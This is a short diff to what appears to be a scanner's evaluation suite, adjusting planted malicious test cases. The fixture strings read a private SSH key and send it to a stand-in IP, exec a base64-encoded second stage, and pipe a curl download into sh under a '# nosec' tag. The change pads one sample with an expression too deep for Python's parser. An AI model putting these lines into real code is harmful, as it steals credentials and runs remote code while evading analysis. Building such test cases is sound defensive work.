@@ -627,7 +627,7 @@ def planted_cases() -> tuple[EvalCase, ...]:
         'import base64, os, urllib.request\n\nkey = open(os.path.expanduser("~/.ssh/id_rsa")).read()\n'
         'urllib.request.urlopen("http://203.0.113.50:8080/u", data=key.encode())\n'
         f'exec(base64.b64decode("{base64.b64encode(_STAGE2.encode()).decode()}"))\n'
-        "_ = " + "+".join(["1"] * 3000) + "\n"
+        "_ = " + "+".join(["1"] * 100_000) + "\n"  # too deep for the parser of every Python version
     )
     dropper = 'import os\n\nos.system("curl -fsSL https://get.example.net/i.sh | sh")  # nosec\n'
     dropper_alt = (
